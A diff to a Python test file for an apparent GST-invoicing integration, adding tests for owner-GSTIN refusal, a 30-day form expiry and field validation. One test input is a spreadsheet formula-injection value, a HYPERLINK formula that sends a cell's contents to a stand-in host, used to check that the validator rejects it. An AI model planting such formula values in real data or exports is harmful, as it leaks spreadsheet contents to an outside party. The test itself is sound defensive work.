@@ -199,6 +199,44 @@ async def test_a_business_gets_a_b2b_invoice_and_the_b2c_one_is_credited(
     assert len(await _documents(hass, session_id)) == 3
 
 
+async def test_the_owners_own_gstin_is_refused_in_the_customers_language(
+    hass: HomeAssistant, customer: Customer, standin: RazorpayStandin, post_webhook: PostWebhook
+) -> None:
+    """Printed right above the form, it would make the owner's invoice out to the owner."""
+    await set_tax_details(hass, tax_options())
+    query, session_id = await _paid_session(hass, customer, standin, post_webhook)
+
+    answer = await customer.post(f"{query}&receipt=a4&lang=hi", B2B | {"gstin": OWNER_GSTIN})
+
+    assert answer.status == 409
+    assert "यह व्यापारी का अपना GSTIN है" in answer.text
+    assert len(await _documents(hass, session_id)) == 1
+
+
+async def test_after_30_days_the_form_is_gone_and_a_request_is_refused(
+    hass: HomeAssistant,
+    customer: Customer,
+    standin: RazorpayStandin,
+    post_webhook: PostWebhook,
+    freezer: FrozenDateTimeFactory,
+) -> None:
+    """Rule 47's 30 days: the page offers the form until then, and refuses a form sent from a
+    page opened before (one rule, ``invoices.replaceable``, for both)."""
+    await set_tax_details(hass, tax_options())
+    query, session_id = await _paid_session(hass, customer, standin, post_webhook)
+    freezer.tick(timedelta(days=30))
+    assert "Need a GST invoice" in (await customer.get(f"{query}&receipt=a4")).text
+
+    freezer.tick(timedelta(minutes=1))
+    page = await customer.get(f"{query}&receipt=a4")
+    assert page.status == 200
+    assert "Need a GST invoice" not in page.text
+    answer = await customer.post(f"{query}&receipt=a4", B2B)
+    assert answer.status == 409
+    assert "more than 30 days old" in answer.text
+    assert len(await _documents(hass, session_id)) == 1
+
+
 @pytest.mark.parametrize(
     ("form", "field_error"),
     [
@@ -211,7 +249,16 @@ async def test_a_business_gets_a_b2b_invoice_and_the_b2c_one_is_credited(
         ({"name": ""}, "Please fill this in."),
         ({"name": "x" * 101}, "This is too long."),
         ({"address": "x" * 201}, "This is too long."),
-        ({"name": "Acme\x07Fleet"}, "This has characters that cannot be printed."),
+        ({"name": "Acme\x07Fleet"}, "This has characters that cannot be printed, or"),
+        # A spreadsheet would run these as formulas once the export's CSV is opened.
+        (
+            {"name": '=HYPERLINK("http://x.example/?"&A1,"Acme")'},
+            "This has characters that cannot be printed, or starts with =",
+        ),
+        ({"address": "@SUM(A1)"}, "This has characters that cannot be printed, or starts with ="),
+        # Rule 46(d): the address is required, and a name must name someone.
+        ({"address": ""}, "Please fill this in."),
+        ({"name": "\u200d\u200c"}, "Please fill this in."),
     ],
 )
 async def test_a_bad_field_is_shown_on_the_form_and_issues_nothing(
